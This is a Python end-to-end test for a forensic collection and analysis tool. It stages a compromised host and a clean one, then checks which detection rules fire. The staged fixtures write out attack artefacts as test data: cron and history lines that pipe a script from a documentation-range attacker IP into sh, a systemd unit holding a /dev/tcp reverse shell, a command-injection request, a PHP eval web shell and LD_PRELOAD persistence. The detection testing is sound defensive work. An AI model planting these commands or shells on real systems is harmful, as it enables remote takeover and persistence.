#!/usr/bin/env python3
"""End to end: the real casefile-agent (on saved /proc trees) and the real disk collector (on
directory trees) collect a staged attack and a clean host; `casefile analyze` must report the
staged evidence and nothing for the clean host.

env: CF_SOURCE_DIR, CF_BIN_DIR (casefile, casefile-agent[-san])."""
import datetime
import json
import os
import shutil
import subprocess
import sys
import tempfile

SRC = os.environ.get("CF_SOURCE_DIR", os.path.join(os.path.dirname(__file__), "..", ".."))
BIN = os.environ.get("CF_BIN_DIR", os.path.join(SRC, "build", "bin"))
sys.path.insert(0, os.path.join(SRC, "tests", "agent"))
from fixture import TCP_HEADER, add_process, base_tree, tcp_line, write  # noqa: E402

NOW = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
WSTART = (NOW - datetime.timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
WEND = (NOW + datetime.timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
OLD = (NOW - datetime.timedelta(days=60)).timestamp()
ATTACKER = "203.0.113.7"

STAGED_EXPECTED = {
    # volatile
    "web.webserver_shell", "proc.shell_stdin_socket", "proc.exec_from_tmp", "proc.miner_traits",
    "proc.pool_port_connection", "proc.attacker_ip_connection", "proc.ld_preload_env",
    "host.kernel_tainted", "host.unsigned_module",
    # disk
    "host.uid0_account", "host.cron_persistence", "host.systemd_persistence",
    "host.history_download_exec", "host.history_cleared", "host.authorized_keys_changed",
    "host.ssh_bruteforce_success", "host.account_created", "host.ld_so_preload",
    "host.webshell_yara", "web.command_injection", "web.attacker_requests",
    "web.request_to_new_script",
}

PASSWD = ("root:x:0:0:root:/root:/bin/bash\n"
          "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
          "alice:x:1000:1000::/home/alice:/bin/bash\n")


def fail(msg):
    print("FAIL:", msg, file=sys.stderr)
    sys.exit(1)


def run(args, ok=(0,)):
    p = subprocess.run(args, capture_output=True, text=True, timeout=300)
    if p.returncode not in ok:
        fail("%s -> %d\nstdout: %s\nstderr: %s" % (" ".join(args), p.returncode, p.stdout[-3000:],
                                                  p.stderr[-3000:]))
    return p


def agent_bin():
    for n in ("casefile-agent", "casefile-agent-san"):
        p = os.path.join(BIN, n)
        if os.access(p, os.X_OK):
            return p
    fail("no casefile-agent in %s" % BIN)


def syslog_ts(dt):
    return dt.strftime("%b ") + ("%2d" % dt.day) + dt.strftime(" %H:%M:%S")


def clf_ts(dt):
    return dt.strftime("%d/%b/%Y:%H:%M:%S +0000")


# ---- volatile: saved /proc trees for casefile-agent --root ----

def proc_tree(root, staged):
    base_tree(root)
    write(root, "etc/passwd", PASSWD)
    write(root, "proc/net/tcp", TCP_HEADER)
    add_process(root, 1, comm="systemd", cmdline=(b"/sbin/init",), exe="/usr/lib/systemd/systemd",
                fds={0: "/dev/null", 1: "/dev/null"})
    add_process(root, 100, comm="nginx", cmdline=(b"nginx: master process /usr/sbin/nginx",),
                exe="/usr/sbin/nginx", fds={0: "/dev/null", 6: "socket:[3001]"})
    add_process(root, 101, comm="nginx", cmdline=(b"nginx: worker process",), exe="/usr/sbin/nginx",
                uid=33, ppid=100, fds={0: "/dev/null", 6: "socket:[3001]"})
    add_process(root, 120, comm="sshd", cmdline=(b"sshd: alice [priv]",), exe="/usr/sbin/sshd",
                fds={0: "/dev/null", 3: "socket:[3002]"})
    add_process(root, 121, comm="bash", cmdline=(b"-bash",), exe="/usr/bin/bash", uid=1000,
                ppid=120, fds={0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"})
    add_process(root, 130, comm="cron", cmdline=(b"/usr/sbin/cron", b"-f"), exe="/usr/sbin/cron")
    local = bytes([10, 0, 1, 5])
    tcp = (tcp_line(0, bytes(4), 80, bytes(4), 0, 0x0A, 0, 3001) +
           tcp_line(1, local, 22, bytes([10, 0, 0, 2]), 50000, 0x01, 0, 3002))
    if staged:
        # a reverse shell spawned by the web server's worker
        add_process(root, 200, comm="sh", cmdline=(b"sh", b"-i"), exe="/usr/bin/dash", uid=33,
                    ppid=101, fds={0: "socket:[2001]", 1: "socket:[2001]", 2: "socket:[2001]"})
        # a miner dropped in /tmp
        add_process(root, 300, comm="xmrig", exe="/tmp/.xm", uid=33,
                    cmdline=(b"/tmp/.xm", b"-o", b"stratum+tcp://pool.example:3333", b"-u", b"W"),
                    fds={0: "/dev/null", 5: "socket:[2002]"})
        write(root, "tmp/.xm", b"\x7fELF miner\n", 0o755)
        # sshd started with a preloaded library
        add_process(root, 400, comm="sshd", cmdline=(b"/usr/sbin/sshd", b"-D"),
                    exe="/usr/sbin/sshd", environ=(b"PATH=/bin", b"LD_PRELOAD=/usr/lib/.libs.so"))
        tcp += (tcp_line(2, local, 41000, bytes([203, 0, 113, 7]), 4444, 0x01, 33, 2001) +
                tcp_line(3, local, 41001, bytes([198, 51, 100, 20]), 3333, 0x01, 33, 2002))
        write(root, "proc/modules", "ext4 1000000 2 mbcache,jbd2, Live 0xffffffffc0000000\n"
                                    "diamorphine 16384 0 - Live 0xffffffffc0100000 (OE)\n")
    else:
        write(root, "proc/sys/kernel/tainted", "0\n")
        write(root, "proc/modules", "ext4 1000000 2 mbcache,jbd2, Live 0xffffffffc0000000\n")
    write(root, "proc/net/tcp", TCP_HEADER + tcp)
    return root


# ---- disk: directory trees for `casefile collect disk` ----

def put(root, rel, data, mode=0o644, mtime=None):
    p = os.path.join(root, rel.lstrip("/"))
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(p, mode)
    if mtime is not None:
        os.utime(p, (mtime, mtime))


def disk_tree(root, staged):
    t0 = NOW - datetime.timedelta(minutes=40)
    auth = ["%s web1 sshd[%d]: Accepted publickey for alice from 10.0.0.2 port 50000 ssh2: "
            "ED25519 SHA256:abc" % (syslog_ts(t0), 900)]
    access = ['10.0.0.2 - - [%s] "GET /index.html HTTP/1.1" 200 612 "-" "Mozilla/5.0"'
              % clf_ts(t0 + datetime.timedelta(seconds=i)) for i in range(5)]
    history = "ls -la\nsystemctl status nginx\n"
    passwd = PASSWD
    put(root, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report "
                              "/etc/cron.hourly\n")
    put(root, "/lib/systemd/system/nginx.service",
        "[Unit]\nDescription=nginx\n[Service]\nType=forking\nExecStart=/usr/sbin/nginx\n"
        "[Install]\nWantedBy=multi-user.target\n")
    put(root, "/var/www/html/index.html", "<html>shop</html>\n")
    put(root, "/home/alice/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice\n",
        0o600)
    if staged:
        passwd += "toor:x:0:0::/root:/bin/bash\n"
        t1 = NOW - datetime.timedelta(minutes=30)
        for i in range(12):
            auth.append("%s web1 sshd[%d]: Failed password for root from %s port %d ssh2"
                        % (syslog_ts(t1 + datetime.timedelta(seconds=i)), 1000 + i, ATTACKER,
                           40000 + i))
        auth.append("%s web1 sshd[1100]: Accepted password for root from %s port 40100 ssh2"
                    % (syslog_ts(t1 + datetime.timedelta(seconds=30)), ATTACKER))
        auth.append("%s web1 useradd[1101]: new user: name=toor, UID=0, GID=0, home=/root, "
                    "shell=/bin/bash" % syslog_ts(t1 + datetime.timedelta(seconds=60)))
        ta = NOW + datetime.timedelta(minutes=1)
        access += [
            '%s - - [%s] "GET /ping.php?host=1.1.1.1%%3Bcurl%%20http%%3A%%2F%%2F%s%%2Fx.sh%%7Csh '
            'HTTP/1.1" 200 10 "-" "curl/8.0"' % (ATTACKER, clf_ts(ta), ATTACKER),
            '%s - - [%s] "POST /uploads/shell.php HTTP/1.1" 200 10 "-" "python-requests/2.31"'
            % (ATTACKER, clf_ts(ta + datetime.timedelta(seconds=5))),
        ]
        history = "cd /tmp\ncurl -s http://%s/x.sh | bash\nhistory -c\n" % ATTACKER
        put(root, "/etc/cron.d/sysupdate",
            "*/5 * * * * root curl -fsSL http://%s/x.sh | sh\n" % ATTACKER)
        put(root, "/etc/systemd/system/dbus-helper.service",
            "[Unit]\nDescription=D-Bus helper\n[Service]\nExecStart=/bin/bash -c 'bash -i >& "
            "/dev/tcp/%s/4444 0>&1'\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
            % ATTACKER)
        put(root, "/etc/ld.so.preload", "/usr/lib/.libs.so\n")
        put(root, "/var/www/html/uploads/shell.php", "<?php @eval($_POST['cmd']); ?>\n")
        # the attacker's key, added now (inside the window)
        put(root, "/home/alice/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl "
            "alice\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 root@kali\n", 0o600)
    put(root, "/etc/passwd", passwd)
    put(root, "/root/.bash_history", history, 0o600)
    put(root, "/var/log/auth.log", "\n".join(auth) + "\n", 0o640)
    put(root, "/var/log/nginx/access.log", "\n".join(access) + "\n", 0o640)
    if not staged:
        # a clean host's files are old; only the logs keep growing
        for d, _, files in os.walk(root):
            for n in files:
                p = os.path.join(d, n)
                if "/var/log/" not in p:
                    os.utime(p, (OLD, OLD))
    return root


def analyze(case, inputs):
    p = run([os.path.join(BIN, "casefile"), "analyze", "--case", case, "--attacker-ip", ATTACKER,
             "--window-start", WSTART, "--window-end", WEND, "--json"] + inputs)
    return json.loads(p.stdout)


def collect(tmp, name, staged):
    tree = proc_tree(os.path.join(tmp, name + "-proc"), staged)
    vol_tar = os.path.join(tmp, name + "-volatile.tar")
    run([agent_bin(), "--root", tree, "--tar", vol_tar, "--case-id", "case-e2e", "--instance-id",
         "i-0e2e"])
    dtree = disk_tree(os.path.join(tmp, name + "-disk"), staged)
    disk = os.path.join(tmp, name + "-diskbundle")
    run([os.path.join(BIN, "casefile"), "collect", "disk", dtree, "--out", disk, "--case-id",
         "case-e2e", "--instance-id", "i-0e2e", "--since", WSTART, "--until", WEND])
    return [vol_tar, disk]


def main():
    tmp = tempfile.mkdtemp(prefix="cf-analyze-e2e-")
    try:
        staged_in = collect(tmp, "staged", True)
        clean_in = collect(tmp, "clean", False)

        out = analyze(os.path.join(tmp, "case-staged"), staged_in)
        fired = {d["rule_id"] for d in out["detections"]}
        missing = STAGED_EXPECTED - fired
        if missing:
            fail("staged attack: rules that did not fire: %s\nfired: %s" % (sorted(missing),
                                                                          sorted(fired)))
        if out["rule_errors"]:
            fail("rule errors: %r" % out["rule_errors"])
        for d in out["detections"]:
            if not (d.get("evidence") and d.get("severity") and d.get("attack") and d.get("time")):
                fail("detection without evidence/severity/attack/time: %r" % d)
        extra = fired - STAGED_EXPECTED
        print("staged: %d detections, %d rules; also fired: %s" % (len(out["detections"]),
                                                                  len(fired), sorted(extra)))
        # the same inputs again change nothing
        again = analyze(os.path.join(tmp, "case-staged"), staged_in)
        if len(again["detections"]) != len(out["detections"]) or again["loaded"]["skipped"] != 2:
            fail("second load changed the case: %d vs %d detections, loaded %r" % (
                len(again["detections"]), len(out["detections"]), again["loaded"]))

        # a bundle altered after collection: loud, recorded, exit status 4, the file not loaded
        bad = os.path.join(tmp, "tampered")
        shutil.copytree(staged_in[1], bad)
        with open(os.path.join(bad, "files.jsonl"), "a") as f:
            f.write('{"path": "/planted", "yara": ["x"]}\n')
        p = subprocess.run([os.path.join(BIN, "casefile"), "analyze", "--case",
                            os.path.join(tmp, "case-tampered"), "--json", bad],
                           capture_output=True, text=True, timeout=300)
        if p.returncode != 4 or "INTEGRITY" not in p.stderr:
            fail("tampered bundle: exit %d, stderr %s" % (p.returncode, p.stderr[-500:]))
        t = json.loads(p.stdout)
        if "integrity.hash_mismatch" not in {d["rule_id"] for d in t["detections"]} or any(
                "/planted" in json.dumps(d) for d in t["detections"]):
            fail("tampered bundle: %r" % [d["rule_id"] for d in t["detections"]])

        clean = analyze(os.path.join(tmp, "case-clean"), clean_in)
        if clean["detections"]:
            fail("clean host has detections: %s" % json.dumps(clean["detections"], indent=1))
        if clean["loaded"]["files"] < 10:
            fail("clean host: too little loaded %r" % clean["loaded"])
        print("clean: 0 detections from %d files, %d rows" % (clean["loaded"]["files"],
                                                            clean["loaded"]["rows"]))
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    print("ok")


if __name__ == "__main__":
    main()
